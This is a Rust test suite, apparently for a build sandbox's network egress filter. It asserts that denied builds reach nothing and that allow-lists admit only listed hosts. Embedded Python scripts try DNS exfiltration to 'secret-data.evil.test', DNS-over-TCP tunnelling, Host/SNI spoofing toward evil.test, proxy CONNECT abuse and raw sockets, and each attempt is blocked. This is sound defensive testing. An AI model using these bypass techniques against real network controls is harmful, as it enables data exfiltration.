//! What a build reaches of the network, and what it does not. Servers are on loopback, outside the build's network.

mod otherwise;
mod services;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use evidence::{Event, EventKind};
use host::{AllowList, Egress, Launch, Names};

use crate::tracing::{Traced, folder, launch, try_run};

fn python(folder: &Path, egress: Egress, script: &str) -> Launch {
    let prelude = "import os, socket, sys, threading\n\
        def fails(call):\n try: call()\n except OSError as e: return e\n raise SystemExit('it went through')\n";
    let mut launch = launch(folder, &["python3", "-S", "-c", &format!("{prelude}{script}")]);
    launch.egress = egress;
    launch
}

fn done(launch: &Launch) -> Traced {
    let seen = try_run(launch).unwrap();
    let code = format!("{:?}", seen.trace.exit);
    assert_eq!(code, "Code(0)", "{:#?}", network(&seen));
    seen
}

/// Target and `errno` of what had to do with the network, in order.
fn network(seen: &Traced) -> Vec<(EventKind, String, u16, String)> {
    let kinds = [EventKind::Connect, EventKind::Bind, EventKind::Resolve, EventKind::Request, EventKind::Gap];
    let line = |event: &Event| {
        let target = event.target.as_ref().map(ToString::to_string).unwrap_or_default();
        (event.kind, target, event.errno, event.detail.clone().unwrap_or_default())
    };
    seen.events.iter().filter(|event| kinds.contains(&event.kind)).map(line).collect()
}

fn errno(seen: &Traced, kind: EventKind, target: &str) -> Option<u16> {
    network(seen).iter().find(|line| line.0 == kind && line.1 == target).map(|line| line.2)
}

fn why(seen: &Traced, kind: EventKind, target: &str) -> String {
    let line = network(seen).into_iter().find(|line| line.0 == kind && line.1 == target);
    line.unwrap_or_else(|| panic!("{target}: {:#?}", network(seen))).3
}

/// A service outside that has no path.
fn abstract_service() -> (String, UnixListener) {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("countersign-test-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    (name, UnixListener::bind_addr(&address).unwrap())
}

/// A server outside that greets each client with its own words and what it heard; counts them.
struct Server {
    address: SocketAddr,
    clients: Arc<AtomicUsize>,
}

impl Server {
    fn start(greeting: &'static str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let (address, clients) = (listener.local_addr().unwrap(), Arc::new(AtomicUsize::new(0)));
        let counter = Arc::clone(&clients);
        std::thread::spawn(move || {
            for client in listener.incoming() {
                counter.fetch_add(1, Ordering::SeqCst);
                std::thread::spawn(move || greet(client.unwrap(), greeting));
            }
        });
        Self { address, clients }
    }

    fn clients(&self) -> usize {
        self.clients.load(Ordering::SeqCst)
    }
}

fn greet(mut client: TcpStream, greeting: &str) {
    let mut heard = [0; 4096];
    let Ok(read) = client.read(&mut heard) else { return };
    let body = format!("{greeting} {read}");
    let answer =
        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
    client.write_all(answer.as_bytes()).ok();
}

/// Allows a list; all its names lead to this server.
fn allow(launch: &mut Launch, list: &str, server: SocketAddr) {
    launch.egress = Egress::Allow(AllowList::parse(list).unwrap());
    launch.names = Names::new(move |_, _| Ok(vec![server]));
}

#[test]
fn denied_builds_reach_nobody_and_the_attempts_are_recorded() {
    let (_keep, folder) = folder();
    let outside = Server::start("outside");
    let _service = UnixListener::bind(folder.join("outside.sock")).unwrap();
    let (name, _abstract) = abstract_service();
    let script = format!(
        r#"
tcp = lambda a, f=socket.AF_INET: lambda: socket.socket(f).connect(a)
udp = lambda a, f=socket.AF_INET: lambda: socket.socket(f, socket.SOCK_DGRAM).sendto(b"x", a)
fails(tcp(("192.0.2.1", 443)))
fails(tcp(("127.0.0.1", {port})))
fails(udp(("192.0.2.1", 9)))
fails(udp(("192.0.2.53", 53)))
fails(tcp(("192.0.2.53", 53)))
fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("192.0.2.1", 10)))
fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 11)))
fails(tcp(("2001:db8::1", 443), socket.AF_INET6))
fails(udp(("2001:db8::1", 443), socket.AF_INET6))
fails(lambda: socket.getaddrinfo("example.com", 443))
fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0", ("192.0.2.1", 0)))
fails(lambda: socket.socket(socket.AF_UNIX).connect("\0{name}"))
fails(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
fails(lambda: socket.socket(40, socket.SOCK_STREAM))
fails(lambda: socket.socket().bind(("192.0.2.7", 0)))
assert fails(lambda: socket.socket(socket.AF_UNIX).connect("outside.sock")).errno == 13
os.symlink("outside.sock", "link.sock"); assert fails(lambda: socket.socket(socket.AF_UNIX).connect("link.sock")).errno == 13
"#,
        port = outside.address.port()
    );
    let seen = done(&python(&folder, Egress::Deny, &script));
    assert_eq!(seen.trace.network, "denied-namespace");
    let unreachable = u16::try_from(101).unwrap();
    for target in [
        "tcp:192.0.2.1:443",
        "udp:192.0.2.1:9",
        "udp:192.0.2.53:53",
        "tcp:192.0.2.53:53",
        "udp:192.0.2.1:10",
        "udp:192.0.2.1:11",
        "tcp:[2001:db8::1]:443",
        "udp:[2001:db8::1]:443",
    ] {
        assert_eq!(errno(&seen, EventKind::Connect, target), Some(unreachable), "{target}");
    }
    assert_eq!(errno(&seen, EventKind::Bind, "tcp:192.0.2.7:0"), Some(99));
    let service = format!("unix:{}/outside.sock", folder.display());
    let hits = network(&seen).iter().filter(|line| line.1 == service && line.2 == 13).count();
    assert_eq!(hits, 2, "{:#?}", network(&seen));
    assert_eq!(outside.clients(), 0);
    assert!(seen.trace.completeness.gaps.is_empty(), "{:?}", seen.trace.completeness.gaps);
}

#[test]
fn servers_inside_a_denied_build_work() {
    let (_keep, folder) = folder();
    let script = r#"
def serve(s, peer):
    c, _ = s.accept(); c.sendall(c.recv(9) * 2); c.close()
for family, address in (socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_INET6, ("::1", 0)), (socket.AF_UNIX, "own.sock"), (socket.AF_UNIX, "\0own"):
    s = socket.socket(family); s.bind(address); s.listen()
    t = threading.Thread(target=serve, args=(s, None)); t.start()
    c = socket.socket(family); c.connect(s.getsockname() if family != socket.AF_UNIX else address); c.sendall(b"ab")
    assert c.recv(9) == b"abab"; t.join()
s = socket.socket(socket.AF_UNIX); s.bind("child.sock"); r, w = os.pipe()
if os.fork() == 0: s.listen(); os.write(w, b"x"); c, _ = s.accept(); c.sendall(b"child"); os._exit(0)
os.read(r, 1); c = socket.socket(socket.AF_UNIX); c.connect("child.sock"); assert c.recv(9) == b"child"; os.wait()
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(("127.0.0.1", 0))
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); b.sendto(b"hello", a.getsockname()); assert a.recv(9) == b"hello"
open("made", "w").write("x"); assert os.stat("made").st_uid == os.getuid()
"#;
    let seen = done(&python(&folder, Egress::Deny, script)).whole();
    assert_eq!(seen.trace.network, "denied-namespace");
}

#[test]
fn listed_names_are_reached_and_nothing_else_is() {
    let (_keep, folder) = folder();
    let outside = Server::start("hello");
    let script = r#"
def get(host, header=None, port=80):
    c = socket.create_connection((host, port), 10)
    c.sendall(("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % (header or host)).encode())
    data = b""
    while True:
        more = c.recv(999)
        if not more: return data
        data += more
assert b"hello" in get("allowed.test")
assert b"hello" in get("a.wild.test")
assert b"hello" in get("allowed.test.")
assert get("allowed.test", "other.test") == b""
assert get("allowed.test", "evil.test") == b""
fails(lambda: get("other.test"))
fails(lambda: get("al1owed.test"))
fails(lambda: get("allowed.test.evil.test"))
fails(lambda: get("wild.test"))
fails(lambda: get("allowed.test", port=8080))
fails(lambda: get("192.0.2.1"))
fails(lambda: get("198.18.0.200"))
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "allowed.test\n*.wild.test\n", outside.address);
    let seen = done(&launch).whole();
    assert_eq!(seen.trace.network, "allowed-namespace");
    assert_eq!(outside.clients(), 3);
    for (kind, target, number) in [
        (EventKind::Resolve, "allowed.test", 0),
        (EventKind::Request, "allowed.test:80", 0),
        (EventKind::Request, "a.wild.test:80", 0),
        (EventKind::Request, "other.test:80", 13),
        (EventKind::Request, "evil.test:80", 13),
        (EventKind::Resolve, "other.test", 13),
        (EventKind::Resolve, "al1owed.test", 13),
        (EventKind::Resolve, "allowed.test.evil.test", 13),
        (EventKind::Resolve, "wild.test", 13),
        (EventKind::Connect, "tcp:198.18.0.1:8080", 13),
        (EventKind::Connect, "tcp:192.0.2.1:80", 13),
        (EventKind::Connect, "tcp:198.18.0.200:80", 13),
    ] {
        assert_eq!(errno(&seen, kind, target), Some(number), "{target} {:#?}", network(&seen));
    }
    assert_eq!(why(&seen, EventKind::Request, "evil.test:80"), "host-mismatch");
}

#[test]
fn audit_holds_nothing_back() {
    let (_keep, folder) = folder();
    let outside = Server::start("hello");
    let script =
        format!("c = socket.create_connection(('127.0.0.1', {})); c.sendall(b'x')", outside.address.port());
    let seen = done(&python(&folder, Egress::Audit, &script)).whole();
    assert_eq!(seen.trace.network, "observed");
    assert_eq!(errno(&seen, EventKind::Connect, &format!("tcp:{}", outside.address)), Some(0));
}

/// Everything else that leads out, by whatever road.
#[test]
fn other_roads_are_closed_and_recorded() {
    let (_keep, folder) = folder();
    let outside = Server::start("hello");
    let script = r#"
import struct
def ask(name, kind=1):
    return b"\xab\xcd\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
def query(name, server, kind=1):
    u = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(ask(name, kind), (server, 53)); answer, peer = u.recvfrom(999)
    assert peer[0] == server, peer
    return answer[3] & 15, answer[7], answer
assert query("evil.test", "8.8.8.8")[:2] == (3, 0)
assert query("allowed.test", "8.8.8.8")[:2] == (0, 1)
assert query("allowed.test", "127.0.0.53")[:2] == (0, 1)
assert query("secret-data.evil.test", "2001:db8::53", 16)[:2] == (3, 0)
assert query("allowed.test", "8.8.8.8", 16)[:2] == (0, 0)
assert query("allowed.test", "8.8.8.8", 65)[:2] == (0, 0)
t = socket.create_connection(("9.9.9.9", 53), 5)
for name, code in ("tunnel.evil.test", 3), ("allowed.test", 0):
    m = ask(name); t.sendall(struct.pack(">H", len(m)) + m)
    length, = struct.unpack(">H", t.recv(2)); assert t.recv(length)[3] & 15 == code
assert fails(lambda: socket.create_connection(("9.9.9.9", 853), 5)).errno == 13
four = socket.getaddrinfo("allowed.test", 443, socket.AF_INET)[0][4][0]
six = socket.getaddrinfo("allowed.test", 443, socket.AF_INET6)[0][4][0]
assert fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"quic", (four, 443))).errno == 13
assert fails(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"quic", (six, 443))).errno == 13
q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); q.connect((four, 443))
def twice(): q.send(b"quic"); import time; time.sleep(0.05); q.send(b"quic")
fails(twice)
assert fails(lambda: socket.create_connection(("2001:db8::1", 443), 5)).errno == 13
c = socket.create_connection((six, 80), 5); c.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); assert b"hello" in c.recv(999)
c = socket.create_connection((four, 443), 5); c.sendall(b"SSH-2.0-tunnel\r\n"); assert c.recv(9) == b""
fails(lambda: socket.create_connection(("203.0.113.8", 443), 5))
fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
f = socket.socket(); f.setsockopt(socket.IPPROTO_TCP, 30, 1)
fails(lambda: f.connect(("192.0.2.9", 443)))
fails(lambda: socket.socket().sendto(b"x", 0x20000000, ("192.0.2.9", 443)))
fails(lambda: socket.socket(socket.AF_UNIX).connect("/run/nscd/socket"))
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "allowed.test\n", outside.address);
    let seen = done(&launch);
    assert_eq!(outside.clients(), 1);
    for (kind, target, number) in [
        (EventKind::Resolve, "evil.test", 13),
        (EventKind::Resolve, "secret-data.evil.test", 13),
        (EventKind::Resolve, "tunnel.evil.test", 13),
        (EventKind::Connect, "tcp:9.9.9.9:853", 13),
        (EventKind::Connect, "udp:198.18.0.1:443", 13),
        (EventKind::Connect, "udp:[fd63:7367:6e00::1]:443", 13),
        (EventKind::Connect, "tcp:[2001:db8::1]:443", 13),
        (EventKind::Connect, "tcp:203.0.113.8:443", 13),
        (EventKind::Connect, "tcp:192.0.2.9:443", 13),
        (EventKind::Request, "allowed.test:443", 13),
    ] {
        assert_eq!(errno(&seen, kind, target), Some(number), "{target} {:#?}", network(&seen));
    }
    assert_eq!(why(&seen, EventKind::Request, "allowed.test:443"), "unknown-protocol");
}

/// A TLS server outside with a certificate of its own making.
struct Secure {
    child: Child,
    address: SocketAddr,
}

impl Secure {
    fn start(folder: &Path) -> Self {
        let run = |arguments: &[&str]| {
            let mut command = Command::new("openssl");
            command.args(arguments).current_dir(folder).stdout(Stdio::null());
            command.stderr(Stdio::null()).stdin(Stdio::null());
            command
        };
        let made = run(&[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "2",
            "-keyout",
            "key.pem",
            "-out",
            "cert.pem",
            "-subj",
            "/CN=allowed.test",
            "-addext",
            "subjectAltName=DNS:allowed.test,DNS:other.test",
        ])
        .status();
        assert!(made.unwrap().success());
        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let accept = port.to_string();
        let mut server =
            run(&["s_server", "-accept", &accept, "-cert", "cert.pem", "-key", "key.pem", "-www"]);
        let secure = Self { child: server.spawn().unwrap(), address: port };
        for _ in 0..200 {
            if TcpStream::connect(port).is_ok() {
                return secure;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        panic!("no TLS server");
    }
}

impl Drop for Secure {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

#[test]
fn tls_goes_to_the_name_that_was_asked_for() {
    let (_keep, folder) = folder();
    let outside = Secure::start(&folder);
    let script = "set -e
        curl -sf --max-time 20 --cacert cert.pem https://allowed.test/ | grep -qi cipher
        curl -sf --max-time 20 -6 --cacert cert.pem https://allowed.test/ | grep -qi cipher
        ! curl -sf --max-time 20 -k --connect-to other.test:443:allowed.test:443 https://other.test/
        ! curl -sf --max-time 20 -k --connect-to evil.test:443:allowed.test:443 https://evil.test/
        ! curl -sf --max-time 20 -k https://evil.test/
        ! curl -sf --max-time 20 -k https://192.0.2.1/
        openssl s_client -connect allowed.test:443 -noservername </dev/null >/dev/null 2>&1 && exit 1
        exit 0";
    let mut launch = launch(&folder, &["bash", "-c", script]);
    allow(&mut launch, "allowed.test\nother.test\n", outside.address);
    let seen = done(&launch).whole();
    let hits = network(&seen)
        .iter()
        .filter(|l| l.0 == EventKind::Request && l.1 == "allowed.test:443" && l.2 == 0)
        .count();
    assert_eq!(hits, 2, "{:#?}", network(&seen));
    for (target, reason) in
        [("other.test:443", "server-name-mismatch"), ("evil.test:443", "server-name-mismatch")]
    {
        assert_eq!(why(&seen, EventKind::Request, target), reason);
    }
    assert!(network(&seen).iter().any(|l| l.1 == "allowed.test:443" && l.2 == 13 && l.3 == "no-server-name"));
    assert_eq!(errno(&seen, EventKind::Resolve, "evil.test"), Some(13));
    assert_eq!(errno(&seen, EventKind::Connect, "tcp:192.0.2.1:443"), Some(13));
}

#[test]
fn a_listed_proxy_is_asked_only_for_listed_hosts() {
    let (_keep, folder) = folder();
    let proxy = Server::start("tunnel");
    let script = r#"
def tunnel(to, then=b""):
    c = socket.create_connection(("proxy.test", 3128), 10)
    c.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to, to)).encode())
    first = c.recv(999)
    if first and then: c.sendall(then); return c.recv(99)
    return first
assert b"tunnel" in tunnel("allowed.test:443")
assert tunnel("evil.test:443") == b""
assert tunnel("allowed.test:22") == b""
assert tunnel("192.0.2.1:443") == b""
assert tunnel("allowed.test:443", b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n") == b""
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "proxy.test:3128\nallowed.test\n", proxy.address);
    let seen = done(&launch).whole();
    assert_eq!(proxy.clients(), 2);
    assert_eq!(errno(&seen, EventKind::Request, "allowed.test:443"), Some(0));
    for target in ["evil.test:443", "allowed.test:22", "192.0.2.1:443"] {
        assert_eq!(why(&seen, EventKind::Request, target), "not-allowed");
    }
}

#[test]
fn a_port_of_its_own_may_speak_first_or_speak_another_protocol() {
    let (_keep, folder) = folder();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let mut client = client.unwrap();
            client.write_all(b"SSH-2.0-server\r\n").ok();
            let mut heard = [0; 99];
            let read = client.read(&mut heard).unwrap_or(0);
            client.write_all(&heard[..read]).ok();
        }
    });
    let script = r#"
c = socket.create_connection(("git.test", 22), 10)
assert c.recv(99) == b"SSH-2.0-server\r\n"
c.sendall(b"SSH-2.0-client\r\n"); assert c.recv(99) == b"SSH-2.0-client\r\n"
c = socket.create_connection(("git.test", 22), 10)
assert c.recv(99) == b"SSH-2.0-server\r\n"
c.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"); assert c.recv(99) == b""
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "git.test:22\n", address);
    let seen = done(&launch).whole();
    assert_eq!(errno(&seen, EventKind::Request, "git.test:22"), Some(0));
    assert_eq!(why(&seen, EventKind::Request, "evil.test:22"), "host-mismatch");
}

#[test]
fn many_connections_at_a_time_are_carried() {
    let (_keep, folder) = folder();
    let outside = Server::start("many");
    let script = r#"
def get(n):
    c = socket.create_connection(("n%d.allowed.test" % (n % 20), 80), 30)
    c.sendall(b"GET / HTTP/1.1\r\nHost: n%d.allowed.test\r\n\r\n" % (n % 20)); data = b""
    while True:
        more = c.recv(999)
        if not more: break
        data += more
    assert b"many" in data, data
    good.append(n)
good = []
threads = [threading.Thread(target=get, args=(n,)) for n in range(400)]
[t.start() for t in threads]; [t.join() for t in threads]
assert len(good) == 400, len(good)
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "*.allowed.test\n", outside.address);
    let seen = done(&launch).whole();
    assert_eq!(outside.clients(), 400);
    let requests = seen.of(EventKind::Request).count();
    assert_eq!(requests, 400);
}

#[test]
fn a_large_answer_comes_whole_and_the_end_of_each_side_is_passed_on() {
    let (_keep, folder) = folder();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        let mut client = listener.accept().unwrap().0;
        let mut heard = Vec::new();
        client.read_to_end(&mut heard).unwrap();
        client.write_all(&heard).unwrap();
    });
    let script = r#"
c = socket.create_connection(("allowed.test", 80), 10)
body = os.urandom(5000000)
sent = b"PUT / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + body
t = threading.Thread(target=lambda: (c.sendall(sent), c.shutdown(socket.SHUT_WR))); t.start()
got = b""
while True:
    more = c.recv(1 << 16)
    if not more: break
    got += more
assert got == sent
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "allowed.test\n", address);
    done(&launch).whole();
}

#[test]
fn a_connection_that_stays_open_ends_with_the_build() {
    let (_keep, folder) = folder();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let silent = std::thread::spawn(move || {
        let mut client = listener.accept().unwrap().0;
        let mut heard = Vec::new();
        client.read_to_end(&mut heard).ok();
        heard.len()
    });
    let script = r#"
c = socket.create_connection(("allowed.test", 80), 10); c.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
d = socket.create_connection(("allowed.test", 80), 10)
import time; time.sleep(0.3); os._exit(0)
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "allowed.test\n", address);
    let before = std::time::Instant::now();
    let seen = done(&launch).whole();
    // A relay waits for 30 s if nobody ends it.
    assert!(before.elapsed() < std::time::Duration::from_secs(25));
    assert_eq!(errno(&seen, EventKind::Request, "allowed.test:80"), Some(0));
    assert_eq!(silent.join().unwrap(), 38);
}

/// Each request is told of the process that made it, though many make the same.
#[test]
fn requests_belong_to_their_process() {
    let (_keep, folder) = folder();
    let outside = Server::start("hello");
    let script = r#"
def child(n):
    socket.getaddrinfo("n%d.allowed.test" % n, 80)
    for _ in range(3):
        c = socket.create_connection(("allowed.test", 80), 10)
        c.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); c.recv(99)
    open("was-%d" % n, "w"); os._exit(0)
children = []
for n in range(8):
    pid = os.fork()
    if pid == 0: child(n)
    children.append(pid)
for pid in children: assert os.waitpid(pid, 0)[1] == 0
"#;
    let mut launch = python(&folder, Egress::Audit, script);
    allow(&mut launch, "allowed.test\n*.allowed.test\n", outside.address);
    let seen = done(&launch).whole();
    for number in 0..8 {
        let process = seen.on(EventKind::Write, &folder.join(format!("was-{number}"))).unwrap().process;
        let requests = seen.of(EventKind::Request).filter(|event| event.process == process).count();
        assert_eq!(requests, 3);
        let name = format!("n{number}.allowed.test");
        let asked =
            seen.of(EventKind::Resolve).find(|event| event.target.as_ref().unwrap().to_string() == name);
        assert_eq!(asked.unwrap().process, process);
    }
}

/// What has a limit says so, and what is within it goes on.
#[test]
fn limits_hold() {
    let (_keep, folder) = folder();
    let outside = Server::start("hello");
    let script = r#"
failed = 0
for n in range(120):
    c = socket.socket()
    try: c.connect(("10.1.1.%d" % n, 443))
    except PermissionError: failed += 1
    c.close()
assert 20 < failed < 40, failed
open_ones = [socket.create_connection(("allowed.test", 80), 20) for _ in range(300)]
for c in open_ones: c.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
for c in open_ones: assert b"hello" in c.recv(999); c.close()
"#;
    let script =
        script.replacen("failed = 0", "socket.create_connection((\"allowed.test\", 80), 20)\nfailed = 0", 1);
    let mut launch = python(&folder, Egress::Audit, &script);
    allow(&mut launch, "10.1.0.0/16\nallowed.test\n", outside.address);
    let seen = done(&launch).whole();
    assert_eq!(outside.clients(), 300);
    assert!(network(&seen).iter().any(|line| line.3 == "too-many-destinations"));
}
